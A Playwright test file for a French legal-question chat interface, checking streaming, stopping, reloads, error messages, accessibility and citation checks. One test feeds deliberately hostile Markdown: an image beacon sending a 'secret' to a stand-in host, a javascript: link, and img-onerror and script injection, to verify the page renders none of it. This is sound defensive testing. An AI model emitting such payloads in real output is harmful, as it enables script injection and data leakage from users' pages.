import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { assertAccessible } from './harness/accessibility.ts'
import { launchBrowser } from './harness/chromium.ts'
import { type ConversationView, conversationOn } from './harness/conversation.ts'
import { type Program, startProgram } from './harness/program.ts'
import { recordFromNow, recordingOf } from './harness/recorder.ts'
import { type ScriptedModel, type Step, speak, startScriptedModel } from './harness/scripted-model.ts'
import { type Visitor, visit } from './harness/visitor.ts'

const question = 'Combien de temps dure la période d’essai d’un cadre ?'
const answer =
  'Pour un cadre en CDI, la période d’essai dure au maximum **quatre mois** [1]. Des durées plus courtes peuvent être fixées par le contrat.'

let browser: Browser
let model: ScriptedModel
let program: Program
let cookie: string
let visitor: Visitor
let page: Page
let conversation: ConversationView

before(async () => {
  model = await startScriptedModel()
  const [launched, started] = await Promise.all([
    launchBrowser(),
    startProgram({ backends: { essai: { url: model.url } } }),
  ])
  browser = launched
  program = started
  cookie = await program.setUp()
})
after(async () => {
  await browser?.close()
  await program?.stop()
  await model?.stop()
})

async function openPage(): Promise<void> {
  visitor = await visit(browser, program.url, { cookie })
  page = visitor.page
  await page.goto('/')
  await recordFromNow(page)
  conversation = conversationOn(page)
}

/** A long answer, slow enough to be interrupted. */
function* tell(words: number, pauseMs: number): Generator<Step> {
  const numbers = Array.from({ length: words }, (_, index) => `mot${index + 1}`)
  yield* speak(`${numbers.join(' ')} fin [1].`, pauseMs)
}

describe('an answer that is being written', () => {
  beforeEach(openPage)

  test('F3: Enter sends, Shift+Enter makes a line, the answer grows, the focus stays', async () => {
    model.play(() => speak(answer, 60))
    await conversation.box.fill('Combien de temps dure')
    await conversation.box.press('Shift+Enter')
    await conversation.box.pressSequentially('la période d’essai d’un cadre ?')
    assert.equal(await conversation.box.inputValue(), 'Combien de temps dure\nla période d’essai d’un cadre ?')
    await conversation.box.press('Enter')
    await conversation.stop.waitFor()
    assert.equal(await conversation.send.count(), 0)
    await page.waitForURL('**/c/*')
    await conversation.ended()
    assert.equal(await conversation.box.evaluate((box) => box === document.activeElement), true)
    const title = (await page.getByRole('heading', { level: 1 }).textContent()) ?? ''
    assert.match(title, /Combien de temps dure/)
    assert.ok((await page.title()).includes(title))
    const { lengths } = await recordingOf(page)
    assert.ok(lengths.length > 3, `lengths seen: ${lengths}`)
    assert.match(await conversation.lastAnswerText(), /quatre mois.*contrat/)
    await visitor.picture('generated-answer')
    await assertAccessible(page)
    await visitor.leave()
  })

  test('F4: the start and the end are announced once each, and no word of the answer', async () => {
    model.play(() => speak(answer, 40))
    await conversation.ask(question)
    await conversation.ended()
    await page.getByText('Réponse terminée').waitFor({ state: 'attached' })
    const { statuses, alerts } = await recordingOf(page)
    assert.deepEqual(statuses, ['Réponse en cours', 'Réponse terminée'])
    assert.deepEqual(alerts, [])
    const live = page.locator('[aria-live], [role=log], [role=status], [role=alert]')
    assert.equal(await live.filter({ has: page.getByRole('list', { name: 'Messages' }) }).count(), 0)
    assert.equal(await page.getByRole('list', { name: 'Messages' }).locator('[aria-live], [role=log]').count(), 0)
    await visitor.leave()
  })

  test('F6: the stop is immediate for the eye and for the model; what was written stays', async () => {
    model.play(() => tell(400, 25))
    await conversation.ask(question)
    await page.getByText('mot20').waitFor()
    const pressedAtMs = await page.evaluate(() => performance.now())
    const pressedHereMs = performance.now()
    await conversation.stop.click()
    await page.getByText('Réponse interrompue.').last().waitFor()
    await page.waitForTimeout(700)
    const { lastChangeMs } = await recordingOf(page)
    assert.ok(
      lastChangeMs - pressedAtMs < 500,
      `text changed ${Math.round(lastChangeMs - pressedAtMs)} ms after the stop`,
    )
    const leftAfterMs = (model.leftAtMs ?? Infinity) - pressedHereMs
    assert.ok(leftAfterMs < 1000, `the model was left after ${Math.round(leftAfterMs)} ms`)
    assert.match(await conversation.lastAnswerText(), /mot1 mot2.*Réponse interrompue/)
    assert.doesNotMatch(await conversation.lastAnswerText(), /fin/)
    await page.reload()
    await conversation.ended()
    assert.match(await conversation.lastAnswerText(), /mot1 mot2.*Réponse interrompue/)
    await visitor.picture('interrupted')
    await assertAccessible(page)
    await visitor.leave()
  })

  test('F6: Escape stops too', async () => {
    model.play(() => tell(400, 25))
    await conversation.ask(question)
    await page.getByText('mot10').waitFor()
    await page.keyboard.press('Escape')
    await page.getByText('Réponse interrompue.').last().waitFor()
    await visitor.leave()
  })

  test('F7: a reload and a second tab both read the answer to its end, each word once', async () => {
    model.play(() => tell(120, 40))
    await conversation.ask(question)
    await page.waitForURL('**/c/*')
    await page.getByText('mot15').waitFor()
    const other = await visitor.context.newPage()
    await other.goto(page.url())
    await page.reload()
    const otherConversation = conversationOn(other)
    await Promise.all([conversation.ended(), otherConversation.ended()])
    const texts = [await conversation.lastAnswerText(), await otherConversation.lastAnswerText()]
    for (const text of texts) {
      const words = text.match(/mot\d+/g) ?? []
      assert.deepEqual(
        words,
        Array.from({ length: 120 }, (_, index) => `mot${index + 1}`),
      )
    }
    assert.equal(texts[0], texts[1])
    await visitor.leave()
  })

  test('F7: another conversation in between does not disturb the answer', async () => {
    model.play(() => tell(100, 40))
    await conversation.ask(question)
    await page.waitForURL('**/c/*')
    await page.getByText('mot10').waitFor()
    const place = new URL(page.url()).pathname
    await page.getByRole('link', { name: 'Nouvelle conversation' }).click()
    await page.getByRole('heading', { level: 1, name: 'Que voulez-vous savoir ?' }).waitFor()
    await page.locator(`a[href="${place}"]`).click()
    await page.getByText('mot10').waitFor()
    await conversation.ended()
    const words = (await conversation.lastAnswerText()).match(/mot\d+/g) ?? []
    assert.deepEqual(
      words,
      Array.from({ length: 100 }, (_, index) => `mot${index + 1}`),
    )
    await visitor.leave()
  })

  for (const refuse of [429, 503] as const) {
    test(`F8: a model that answers ${refuse} before its first word is told, and the sources are quoted`, async () => {
      model.play(() => [{ refuse }])
      await conversation.ask(question)
      await conversation.answers
        .last()
        .getByText(/Le modèle de langue n’a pas répondu/)
        .waitFor({ timeout: 40_000 })
      await conversation.ended()
      assert.match(await conversation.lastAnswerText(), /quatre mois/)
      assert.doesNotMatch(await page.locator('body').innerText(), /[{}]|undefined|ECONN|stack/)
      await visitor.picture(`refused-${refuse}`)
      await visitor.leave()
    })
  }

  test('F8: a line cut in the middle is told in words, once, and asking again works', async () => {
    model.play(() => [{ say: 'Pour un cadre, ' }, { waitMs: 50 }, { cut: true }])
    await conversation.ask(question)
    await conversation.answers.last().getByText('La réponse a échoué.').waitFor({ timeout: 40_000 })
    const { alerts } = await recordingOf(page)
    assert.equal(alerts.length, 1, `alerts: ${alerts.join(' | ')}`)
    assert.doesNotMatch(await page.locator('body').innerText(), /[{}]|undefined|ECONN|stack/)
    await visitor.picture('failed-cut')
    model.play(() => speak(answer, 5))
    await page.getByRole('button', { name: 'Réessayer' }).last().click()
    await page.getByText('Réponse terminée').waitFor({ state: 'attached' })
    assert.match(await conversation.lastAnswerText(), /quatre mois/)
    await visitor.leave()
  })
})

describe('what a model writes', () => {
  beforeEach(openPage)

  test('threat: leak by Markdown image or link: F13: it loads nothing from elsewhere and runs nothing; wide tables and code have their place', async () => {
    const row = `| ${Array.from({ length: 14 }, (_, index) => `colonne numéro ${index + 1}`).join(' | ')} |`
    const rule = `|${' --- |'.repeat(14)}`
    const hostile = [
      '![pixel](https://exemple.test/pixel.png?secret=1) [1]',
      '[cliquez ici](javascript:globalThis.stolen=1)',
      '<img src=x onerror="globalThis.stolen=1"><script>globalThis.stolen=1</script>',
      `${row}\n${rule}\n${row}\n${row}`,
      '```js\nconst x = 1\n```',
      '[un site](https://exemple.test/page)',
      'fin du message.',
    ].join('\n\n')
    model.play(() => [{ say: hostile }])
    await conversation.ask(question)
    await conversation.ended()
    await page.getByText('fin du message.').waitFor()
    assert.equal(await page.evaluate(() => 'stolen' in globalThis), false)
    assert.equal(await page.locator('.turn img, .turn script').count(), 0)
    assert.equal(await page.locator('a[href^="javascript:"]').count(), 0)
    const table = conversation.answers.last().locator('table')
    const scroller = table.locator('xpath=ancestor::*[@tabindex="0"][1]')
    const sizes = await scroller.evaluate(({ scrollWidth, clientWidth }) => ({ scrollWidth, clientWidth }))
    assert.ok(sizes.scrollWidth > sizes.clientWidth, 'the table scrolls in its own region')
    const width = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth])
    assert.equal(width[0], width[1], 'the page does not scroll sideways')
    assert.equal(await table.locator('th[scope=col]').count(), 14)
    await conversation.answers.last().getByRole('button', { name: 'Copier' }).first().waitFor()
    await visitor.picture('markdown')
    await assertAccessible(page)
    await visitor.leave()
  })

  test('a claim that its passage does not hold is marked', async () => {
    model.play(() => speak('Pour un cadre, la période d’essai dure au maximum quatorze mois [1].', 5))
    await conversation.ask(question)
    await conversation.ended()
    await page.getByText('1 affirmation non retrouvée dans les sources').waitFor()
    await visitor.picture('doubt')
    await assertAccessible(page)
    await visitor.leave()
  })
})
